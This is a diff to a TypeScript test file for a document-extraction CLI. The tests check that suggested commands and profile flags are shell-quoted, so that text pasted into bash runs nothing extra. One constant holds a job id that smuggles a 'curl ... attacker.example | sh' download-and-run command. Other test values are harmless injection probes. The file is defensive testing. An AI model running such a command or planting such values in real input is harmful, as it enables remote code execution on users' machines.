@@ -12,7 +12,8 @@ import { describe, expect, it } from 'vitest';
 import type { JournalRecord } from '../../../src/batch/journal-records.js';
 import type { CliContext } from '../../../src/cli/context.js';
 import { commandLine } from '../../../src/cli/engine-access.js';
-import { cliErrorMessage, strayJobNotice } from '../../../src/cli/outcome-words.js';
+import { humanLine } from '../../../src/cli/outcome-lines.js';
+import { cliErrorMessage, strayJobNotice, wordedForCli } from '../../../src/cli/outcome-words.js';
 import { batchOutcome } from '../../../src/cli/run-batch.js';
 import { renderCommands, renderJobs } from '../../../src/cli/run/jobs-render.js';
 import type { ExtractionReport } from '../../../src/engine/batch-report.js';
@@ -25,6 +26,7 @@ const HOSTILE_ID = 'job_7f3a; curl -s http://attacker.example/i | sh #';
 /** The same shape of id, harmless if a broken quoting ever lets it run: the test sees INJECTED in what bash printed. */
 const PASTED_ID = 'job_7f3a; echo INJECTED #';
 const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+const NO_PAINT = { red: (text: string) => text, green: (text: string) => text, yellow: (text: string) => text } as unknown as CliContext['ui']['paint'];
 
 /** What bash runs for `line` pasted as a whole: the words of each command, as `set --` receives them (a comment takes nothing). */
 function pastedIntoBash(line: string): string[] {
@@ -51,9 +53,11 @@ describe('suggested commands are quoted', () => {
 
   it('the advice after an interrupted run: the collect command and the file in its comment are quoted; nothing of the name runs', () => {
     let stderr = '';
+    // The run's --profile and --rate-limit are repeated, quoted: a profile name is the user's, pasted as one word.
     const ctx = {
       ui: { error: (line: string) => (stderr += `${line}\n`) },
       clock: { now: () => Date.parse('2026-11-26T14:00:00.000Z') },
+      suggestedFlags: () => ({ global: ['--profile', 'client b; echo INJECTED'], command: ['--rate-limit', '3/1s'] }),
     } as unknown as CliContext;
     const report = {
       interrupted: true,
@@ -67,9 +71,9 @@ describe('suggested commands are quoted', () => {
         () => false,
       ),
     ).toBe('interrupted');
-    const advice = pasteFrom(stderr, 'docextract collect');
+    const advice = pasteFrom(stderr, 'docextract --profile');
     expect(advice).not.toMatch(RAW_CONTROL);
-    expect(pastedIntoBash(advice)).toEqual(['docextract', 'collect', 'job_0a1b']);
+    expect(pastedIntoBash(advice)).toEqual(['docextract', '--profile', 'client b; echo INJECTED', 'collect', 'job_0a1b', '--rate-limit', '3/1s']);
   });
 
   it('an outcome’s advice and a stray job’s notice paste back as `docextract collect <id>`, whatever the id holds', () => {
@@ -83,6 +87,25 @@ describe('suggested commands are quoted', () => {
     }
     const stray = strayJobNotice({ parentJobId: PASTED_ID, path: 'in/a.pdf' });
     expect(pastedIntoBash(pasteFrom(stray, 'docextract collect'))).toEqual(['docextract', 'collect', PASTED_ID]);
+  });
+
+  it("an outcome line that ends with a command pastes from the command to the line's end: its code is a shell comment (issue 52)", () => {
+    for (const kind of ['pages_missing', 'job_open', 'job_kept_open']) {
+      const outcome = wordedForCli({
+        file: 'in/a.pdf',
+        status: 'interrupted',
+        error: { code: 'interrupted', message: 'stopped', details: { kind, job_id: 'job_a1f2', expires_at: '2026-11-26T16:00:00.000Z' } },
+      } as never);
+      const line = humanLine(outcome, NO_PAINT);
+      expect(line).toMatch(/# interrupted$/);
+      const pasted = pasteFrom(line, 'docextract collect');
+      // `bash -n`: parsed, not run; "(interrupted)" after the command was a syntax error.
+      expect(() => execFileSync('bash', ['-n', '-c', pasted], { stdio: 'pipe' }), pasted).not.toThrow();
+      expect(pastedIntoBash(pasted)).toEqual(['docextract', 'collect', 'job_a1f2']);
+    }
+    // A message that names no command keeps its code in parentheses.
+    const plain = humanLine({ file: 'in/b.pdf', status: 'failed', error: { code: 'file_too_large', message: 'too large' } } as never, NO_PAINT);
+    expect(plain).toMatch(/too large \(file_too_large\)$/);
   });
 });
 
